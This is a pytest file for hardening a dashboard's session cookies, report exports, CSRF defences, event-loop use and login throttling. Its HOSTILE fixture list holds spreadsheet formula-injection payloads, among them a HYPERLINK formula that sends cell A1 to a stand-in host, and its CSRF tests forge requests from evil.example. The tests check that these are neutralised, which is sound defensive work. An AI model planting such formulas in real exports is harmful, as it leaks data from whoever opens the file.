"""Dashboard hardening: the Secure cookie flag, formula-safe exports, CSRF, the event loop, login messages."""

from __future__ import annotations

import pytest
from aiohttp.test_utils import TestClient, TestServer

from bot.config import Settings
from bot.web.dashboard import COOKIE, SERVICES, DashboardServices, make_app
from tests.ledgers.conftest import PASSWORDS, Clock

# --- the Secure cookie flag -------------------------------------------------------------------------------


def _served(monkeypatch, argv: list[str], env: str | None = None) -> DashboardServices:
    """Run ``python -m bot dashboard ARGV`` up to ``web.run_app`` and return the services it would serve."""
    from aiohttp import web

    import bot.cli.app as cli  # every command opens the app there
    from bot.cli.main import build_parser

    class FakeApp:
        uow = None

        def __init__(self) -> None:
            self.settings = Settings.from_env()  # after the environment below was set

        def close(self) -> None:
            pass

    served: list[web.Application] = []
    monkeypatch.setattr(cli, "open_app", FakeApp)
    monkeypatch.setattr(web, "run_app", lambda app, **kw: served.append(app))
    if env is None:
        monkeypatch.delenv("XUNZHEN_DASHBOARD_SECURE_COOKIE", raising=False)
    else:
        monkeypatch.setenv("XUNZHEN_DASHBOARD_SECURE_COOKIE", env)
    args = build_parser().parse_args(["dashboard", *argv])
    assert args.func(args) == 0
    return served[0][SERVICES]


@pytest.mark.parametrize(
    ("argv", "env", "secure"),
    [
        (["--listen", "0.0.0.0:8081"], None, True),  # reachable from the network: Secure by default
        (["--listen", "10.1.2.3:8081"], None, True),
        (["--listen", "dashboard.example.cn:8081"], None, True),
        (["--listen", "127.0.0.1:8081"], None, False),  # local use without TLS
        (["--listen", "127.8.0.1:8081"], None, False),
        (["--listen", "[::1]:8081"], None, False),
        (["--listen", "localhost:8081"], None, False),
        (["--listen", ":8081"], None, False),
        ([], None, False),
        (["--listen", "0.0.0.0:8081", "--no-secure-cookie"], None, False),
        (["--listen", "127.0.0.1:8081", "--secure-cookie"], None, True),
        (["--listen", "0.0.0.0:8081"], "off", False),
        (["--listen", "127.0.0.1:8081"], "1", True),
        (["--listen", "127.0.0.1:8081", "--no-secure-cookie"], "on", False),  # the flag wins over the environment
    ],
)
def test_the_session_cookie_is_secure_unless_the_dashboard_listens_on_loopback(monkeypatch, argv, env, secure):
    assert _served(monkeypatch, argv, env).secure_cookie is secure


async def test_a_secure_dashboard_sets_a_secure_cookie(sqlite_world):
    app = make_app(DashboardServices(uow=sqlite_world[1], clock=Clock(), secure_cookie=True))
    async with TestClient(TestServer(app)) as client:
        first = await client.get("/login")
        assert "Secure" in first.headers["Set-Cookie"]  # the login form's token too
        token = _hidden(await first.text())["csrf"]
        data = {"code": "S0001", "password": PASSWORDS["S0001"], "csrf": token}
        # The client's jar keeps Secure cookies away from plain http; a browser on https sends it back.
        headers = {"Cookie": f"xz_login_csrf={token}"}
        resp = await client.post("/login", data=data, headers=headers, allow_redirects=False)
        assert resp.status == 303
        assert COOKIE in resp.headers["Set-Cookie"] and "Secure" in resp.headers["Set-Cookie"]


def _hidden(page: str) -> dict[str, str]:
    """The login form's hidden fields (none before the double-submit token existed)."""
    import re

    return dict(re.findall(r'<input type="hidden" name="([a-z_]+)" value="([^"]*)"', page))


# --- formula injection in the workbook and the CSV files --------------------------------------------------

HOSTILE = ['=HYPERLINK("http://x.example/"&A1,"点此")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


@pytest.fixture
def hostile_report(monkeypatch, sqlite_world):
    """A hotline lead whose summary is a formula, and an extra sheet of hostile text and real numbers."""
    import bot.web.reports as reports
    from domain.ledgers import LeadSource
    from storage.repositories.ledgers import LedgerRepository
    from tests.conftest import FIXED_NOW

    with sqlite_world[1]() as uow:
        LedgerRepository(uow).add_lead(LeadSource.HOTLINE, HOSTILE[0], now=FIXED_NOW, place_code="350421101")
        uow.commit()
    original = reports.sheets
    extra = reports.Sheet("注入", ["=表头", "b"], [8] * 10, [[*HOSTILE, -3, -2.5, 0, "正常 =1"]])
    monkeypatch.setattr(reports, "sheets", lambda d: [*original(d), extra])
    return extra


def _check_cells(rows: list[list[object]]) -> None:
    cells = [v for r in rows for v in r]
    assert ["'" + h for h in HOSTILE] == cells[:6]
    assert cells[6:] in ([-3, -2.5, 0, "正常 =1"], ["-3", "-2.5", "0", "正常 =1"])  # numbers stay numbers


def test_report_files_never_hold_formulas(hostile_report, sqlite_world, tmp_path):
    import csv

    from openpyxl import load_workbook

    from bot.cli.reports import make_report
    from tests.conftest import FIXED_NOW

    with sqlite_world[1]() as uow:
        xlsx = make_report(uow, "2026-11", None, "xlsx", tmp_path / "r.xlsx", FIXED_NOW)[0]
        csvs = make_report(uow, "2026-11", None, "csv", tmp_path / "csv", FIXED_NOW)
    wb = load_workbook(xlsx)
    assert not [c.coordinate for ws in wb for row in ws.iter_rows() for c in row if c.data_type == "f"]
    ws = wb["注入"]
    assert ws["A1"].value == "'=表头"
    _check_cells([list(r) for r in ws.iter_rows(min_row=2, values_only=True)])
    leads = [r for r in wb["问题线索台账"].iter_rows(values_only=True) if "'" + HOSTILE[0] in r]
    assert leads, "the hostile lead summary is in the ledger, quoted"
    with csvs[-1].open(encoding="utf-8-sig", newline="") as f:
        rows = list(csv.reader(f))
    assert rows[0][0] == "'=表头"
    _check_cells(rows[1:])
    text = "".join(p.read_text(encoding="utf-8-sig") for p in csvs)
    assert "'" + HOSTILE[0].replace('"', '""') in text


async def test_the_dashboard_download_holds_no_formulas(hostile_report, sqlite_world):
    import io

    from openpyxl import load_workbook

    app = make_app(DashboardServices(uow=sqlite_world[1], clock=Clock()))
    async with TestClient(TestServer(app)) as client:
        await _login(client, "S0002")
        resp = await client.get("/report?period=2026-11&format=xlsx")
        assert resp.status == 200
        wb = load_workbook(io.BytesIO(await resp.read()))
    assert not [c.coordinate for ws in wb for row in ws.iter_rows() for c in row if c.data_type == "f"]
    _check_cells([list(r) for r in wb["注入"].iter_rows(min_row=2, values_only=True)])
    assert any("'" + HOSTILE[0] in r for r in wb["问题线索台账"].iter_rows(values_only=True))


async def _login(client, code: str, password: str | None = None, *, origin=None, extra_headers=None):
    """Open the login form and submit it (from ``origin`` when given)."""
    form = await (await client.get("/login")).text()
    data = {"code": code, "password": password or PASSWORDS[code], **_hidden(form)}
    headers = {**(extra_headers or {}), **({"Origin": origin} if origin else {})}
    return await client.post("/login", data=data, headers=headers, allow_redirects=False)


# --- the event loop and the report's temporary folder -----------------------------------------------------


async def test_database_password_and_workbook_work_stay_off_the_event_loop(monkeypatch, sqlite_world):
    import threading

    import bot.web.dashboard as dash
    import bot.web.reports as reports

    factory = sqlite_world[1]
    seen: dict[str, set[int]] = {"uow": set(), "argon2": set(), "xlsx": set()}

    def spy(key, fn):
        def wrapped(*a, **kw):
            seen[key].add(threading.get_ident())
            return fn(*a, **kw)

        return wrapped

    monkeypatch.setattr(dash, "verify_password", spy("argon2", dash.verify_password))
    monkeypatch.setattr(reports, "write_xlsx", spy("xlsx", reports.write_xlsx))
    app = make_app(DashboardServices(uow=spy("uow", factory), clock=Clock()))
    async with TestClient(TestServer(app)) as client:
        assert (await _login(client, "S0002", "a-wrong-password")).status == 401
        assert (await _login(client, "S0002")).status == 303
        for url in ("/", "/calendar?period=2026-06", "/overdue", "/leads", "/report?format=xlsx", "/report?format=md"):
            assert (await client.get(url)).status == 200, url
    loop = threading.get_ident()
    assert all(seen.values()), seen
    assert {k: loop in v for k, v in seen.items()} == {"uow": False, "argon2": False, "xlsx": False}


async def test_a_failed_workbook_leaves_no_personal_data_behind(monkeypatch, sqlite_world, tmp_path):
    import bot.web.reports as reports

    def half_written(d, path):
        path.write_bytes(b"PK personal data")
        raise OSError("disk full")

    monkeypatch.setattr(reports, "write_xlsx", half_written)
    app = make_app(DashboardServices(uow=sqlite_world[1], clock=Clock(), report_dir=tmp_path))
    async with TestClient(TestServer(app)) as client:
        await _login(client, "S0002")
        assert (await client.get("/report?period=2026-11&format=xlsx")).status == 500
    assert list(tmp_path.iterdir()) == []


# --- cross-site requests ----------------------------------------------------------------------------------


@pytest.fixture
async def client(sqlite_world):
    clock = Clock()
    app = make_app(DashboardServices(uow=sqlite_world[1], clock=clock))
    async with TestClient(TestServer(app)) as c:
        c.clock = clock  # type: ignore[attr-defined]
        yield c


def _site(client) -> str:
    url = client.make_url("/")
    return f"{url.scheme}://{url.host}:{url.port}"


async def test_a_post_from_another_origin_is_refused(client):
    for origin in ("https://evil.example", "null", _site(client).replace("http:", "https:"), _site(client) + "1"):
        resp = await _login(client, "S0001", origin=origin)
        assert resp.status == 403, origin
        assert COOKIE not in resp.cookies
    assert (await _login(client, "S0001", origin=_site(client))).status == 303
    page = await (await client.get("/")).text()
    import re

    token = re.search(r'name="csrf" value="([0-9a-f]+)"', page).group(1)
    headers = {"Origin": "https://evil.example"}
    resp = await client.post("/logout", data={"csrf": token}, headers=headers, allow_redirects=False)
    assert resp.status == 403
    assert (await client.get("/", allow_redirects=False)).status == 200  # still logged in


async def test_behind_a_tls_proxy_the_browsers_origin_is_this_site(client):
    proxy = {"X-Forwarded-Proto": "https", "X-Forwarded-Host": "kanban.smwjw.example"}
    resp = await _login(client, "S0001", origin="https://kanban.smwjw.example", extra_headers=proxy)
    assert resp.status == 303
    resp = await _login(client, "S0001", origin="https://evil.example", extra_headers=proxy)
    assert resp.status == 403


async def test_the_login_form_needs_its_double_submit_token(client):
    form = await (await client.get("/login")).text()
    token = _hidden(form)["csrf"]
    assert len(token) >= 32 and f"xz_login_csrf={token}" in str(
        client.session.cookie_jar.filter_cookies(client.make_url("/login"))
    )
    base = {"code": "S0001", "password": PASSWORDS["S0001"]}
    for data in (base, {**base, "csrf": ""}, {**base, "csrf": "forged-" + token[7:]}):
        resp = await client.post("/login", data=data, allow_redirects=False)
        assert resp.status == 403 and COOKIE not in resp.cookies
    client.session.cookie_jar.clear()  # a forged form with the right field but no cookie (another site's page)
    resp = await client.post("/login", data={**base, "csrf": token}, allow_redirects=False)
    assert resp.status == 403 and COOKIE not in resp.cookies
    assert (await _login(client, "S0001")).status == 303


# --- one answer for every failed login --------------------------------------------------------------------


async def test_a_throttled_client_gets_the_same_answer_for_a_known_and_an_unknown_code(client, sqlite_world):
    # Issue 15: the old global lock is gone; the throttle counts codes as typed, so its message (which says how
    # long to wait) cannot tell a guesser which codes exist.
    import re

    from bot.web.login_throttle import FREE_PER_ACCOUNT

    def message(page: str) -> str:
        return re.search(r'id="login-error"[^>]*>([^<]*)<', page).group(1)

    wrong = await _login(client, "S0002", "not-the-password")
    unknown = await _login(client, "NOBODY", "not-the-password")
    assert [r.status for r in (wrong, unknown)] == [401, 401]
    assert message(await wrong.text()) == message(await unknown.text())
    for code in ("S0002", "NOBODY"):
        for _ in range(FREE_PER_ACCOUNT - 1):
            await _login(client, code, "not-the-password")
    known, ghost = await _login(client, "S0002", "not-the-password"), await _login(client, "NOBODY", "x" * 12)
    assert known.status == ghost.status == 429
    assert re.sub(r"\d+", "N", message(await known.text())) == re.sub(r"\d+", "N", message(await ghost.text()))
    with sqlite_world[1]() as uow:
        from sqlmodel import col, select

        from storage.tables import AuditRow

        reasons = uow.session.exec(select(AuditRow.reason).where(col(AuditRow.action) == "dashboard.login_failed"))
        assert "throttled" in set(reasons)
    client.clock.advance(minutes=16)
    assert (await _login(client, "S0002")).status == 303
